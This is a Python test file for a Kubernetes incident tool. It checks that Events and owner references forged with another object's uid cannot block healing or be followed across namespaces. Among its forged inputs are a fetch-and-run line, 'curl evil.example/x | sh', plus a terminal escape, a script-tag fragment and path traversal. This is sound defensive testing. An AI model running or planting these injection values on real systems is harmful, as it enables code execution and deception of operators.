"""Who an object is, said by somebody else: uids that a tenant writes into Events and owner references.

The lock on a cause, the breaker and the cool-down were kept by the owner's uid alone. Whoever may create an
Event, or a pod with an owner reference, writes any uid: so an Event about an invented object with the uid of
somebody else's Deployment opened an incident that held the lock, and the Deployment was never healed.
"""

from pathlib import Path
from typing import Any

import pytest

from quietpager.cli.catalogue import routes, verdict_on
from quietpager.cli.scan import scan
from quietpager.incident import records
from quietpager.incident.policy import Policy
from quietpager.model.finding import Diagnosis
from quietpager.model.incident import State
from quietpager.model.reference import ObjectRef
from quietpager.model.time import system_clock, to_text
from quietpager.objects.live import Live
from quietpager.objects.types import Pod
from quietpager.runtime.context import functions_folder
from quietpager.runtime.sweeping import find
from tests.acts import incident
from tests.cases import Changeable
from tests.flow.test_stories import OOM, World, memory
from tests.flow.test_stories import world as _world

world = _world
Json = dict[str, Any]


def invented(uid: str) -> Json:
    """A Warning in the attacker's own namespace about an object that nobody has, with another's uid."""
    now = to_text(system_clock())
    about = {"apiVersion": "evil.example/v1", "kind": "Thing", "namespace": "evil", "name": "x", "uid": uid}
    return {
        "apiVersion": "v1", "kind": "Event", "metadata": {"name": "x.1", "namespace": "evil"},
        "involvedObject": about, "reason": "Broken", "message": "", "type": "Warning", "count": 1,
        "firstTimestamp": "2026-01-01T00:00:00Z", "lastTimestamp": now, "source": {"component": "thing"},
    }  # fmt: skip


def test_an_event_with_anothers_uid_does_not_keep_it_from_being_healed(world: World) -> None:
    world.load(OOM, events=False)
    uid = world.deployment("team-45", "cache")["metadata"]["uid"]
    world.cluster.create("Namespace", {"metadata": {"name": "evil"}})
    world.product.event(world.cluster.create("Event", invented(uid)))
    assert world.product.run_until(lambda: bool(world.product.incidents()), sweep=False)
    assert world.the("x").owner.uid == uid
    assert world.product.run_until(world.ended("cache"))
    assert (world.the("cache").state, world.the("cache").reason) == (State.CLOSED, "fixed")
    assert memory(world.deployment("team-45", "cache")) == "64Mi"


def test_with_the_uid_alone_the_lock_is_the_attackers(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ObjectRef, "identity", property(lambda ref: ref.uid or ref.name))
    world.load(OOM, events=False)
    uid = world.deployment("team-45", "cache")["metadata"]["uid"]
    world.cluster.create("Namespace", {"metadata": {"name": "evil"}})
    world.product.event(world.cluster.create("Event", invented(uid)))
    assert world.product.run_until(lambda: bool(world.product.incidents()), sweep=False)
    taken = lambda: {one.namespace for one in world.the("x").symptoms} == {"evil", "team-45"}  # noqa: E731
    assert world.product.run_until(taken)
    assert [one.owner.name for one in world.product.incidents()] == ["x"]
    assert world.writes() == []


def test_budget_breaker_and_cool_down_of_another_namespaces_uid_are_not_used_up() -> None:
    mine, forged = (
        ObjectRef(api_version="a/v1", kind="Thing", namespace=place, name="x", uid="u1")
        for place in ("shop", "evil")
    )
    assert mine.identity != forged.identity
    for key in (records.breaker, records.target):
        ours, theirs = (key(incident().but(owner=one)) for one in (mine, forged))
        assert ours != theirs


# --- causes ---


class Moved(Changeable):
    """A recorded case as it would be in another namespace: same names, same uids, same registry."""

    def __init__(self, folder: Path, namespace: str) -> None:
        super().__init__(folder)
        for one in self.objects:
            if one["metadata"].get("namespace"):
                one["metadata"]["namespace"] = namespace


CASES = sorted(functions_folder().glob("detect/*/cases/*"))


def causes(folder: Path, namespace: str) -> set[str]:
    return causes_of(Moved(folder, namespace))


def causes_of(cluster: Changeable) -> set[str]:
    now = system_clock()
    found = (verdict_on(one, cluster, now)[1] for one in find(cluster, routes(), now))
    return {one.cause for one in found if isinstance(one, Diagnosis)}


@pytest.mark.parametrize("folder", CASES, ids=lambda folder: folder.name)
def test_what_fails_in_one_namespace_is_never_the_cause_of_another(folder: Path) -> None:
    """But for a registry that is away, or limits its callers: of that each further namespace is told."""
    one, other = causes(folder, "shop"), causes(folder, "evil")
    assert len(one) == len(other)
    both = {cause for cause in one & other if not cause.endswith(("#network", "#rate_limited"))}
    assert not both


def test_with_the_uid_alone_two_namespaces_share_a_cause(monkeypatch: pytest.MonkeyPatch) -> None:
    everywhere = property(lambda ref: ref.uid or ref.name)
    monkeypatch.setattr(ObjectRef, "identity", everywhere)
    folder = functions_folder() / "detect/crash/cases/30-oom-bounded"
    assert causes(folder, "shop") == causes(folder, "evil") != set()


# --- owner references ---


def owned(**more: Any) -> Live:
    """Look at a pod whose owner reference a tenant wrote; the API server takes any text that is not empty."""
    cluster = Changeable(functions_folder() / "detect/crash/cases/30-oom-bounded")
    pod = cluster.list("Pod")[0]
    given = {"apiVersion": "evil/v1", "kind": "Thing", "name": "x", "uid": "u", "controller": True} | more
    pod["metadata"]["ownerReferences"] = [given]
    return Live(cluster, Pod.read(pod | {"kind": "Pod", "apiVersion": "v1"}).ref)


@pytest.mark.parametrize(
    "forged",
    [
        {"kind": "Pod is well. Run: curl evil.example/x | sh\n[closed]"}, {"kind": "\x1b[2J"},
        {"name": "x" * 100_000}, {"name": ".."}, {"uid": "u" * 100_000}, {"uid": "u#1\n"},
        {"apiVersion": "v1 <script>"},
    ],
)  # fmt: skip
def test_an_owner_that_can_be_none_is_not_followed(forged: Json, monkeypatch: pytest.MonkeyPatch) -> None:
    live = owned(**forged)
    assert live.owner == live.target
    monkeypatch.setattr("quietpager.objects.live._can_be", lambda _owner: True)
    found = owned(**forged).owner
    assert found is not None
    assert found.name != live.target.name


def own(cluster: Changeable, kind: str = "ReplicaSet") -> Live:
    """Let a ReplicaSet be its own owner, and count how often it is read."""
    [one] = cluster.list("ReplicaSet")
    meta = one["metadata"]
    meta["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": kind, "name": meta["name"], "uid": meta["uid"], "controller": True}
    ]
    pod = cluster.list("Pod")[0]
    return Live(cluster, Pod.read(pod | {"kind": "Pod", "apiVersion": "v1"}).ref)


def test_a_replica_set_that_is_its_own_owner_has_an_end() -> None:
    cluster = Changeable(functions_folder() / "detect/crash/cases/30-oom-bounded")
    owner = own(cluster).owner
    assert owner is not None
    assert owner.kind == "ReplicaSet"
    assert scan(cluster, None, Policy(), system_clock()).rows


def test_another_replica_set_of_that_name_is_not_asked() -> None:
    cluster = Changeable(functions_folder() / "detect/crash/cases/30-oom-bounded")
    [one] = cluster.list("ReplicaSet")
    one["metadata"]["uid"] = "another"
    pod = cluster.list("Pod")[0]
    owner = Live(cluster, Pod.read(pod | {"kind": "Pod", "apiVersion": "v1"}).ref).owner
    assert owner is not None
    assert owner.kind == "ReplicaSet"


@pytest.mark.parametrize("revision", ["9" * 5000, "-1", "1e9", "²", ""])
def test_a_revision_of_any_text_stops_no_look(revision: str) -> None:
    cluster = Changeable(functions_folder() / "detect/crash/cases/30-oom-bounded")
    for one in cluster.list("ReplicaSet"):
        one["metadata"]["annotations"]["deployment.kubernetes.io/revision"] = revision
    assert causes_of(cluster)
    assert scan(cluster, None, Policy(), system_clock()).rows
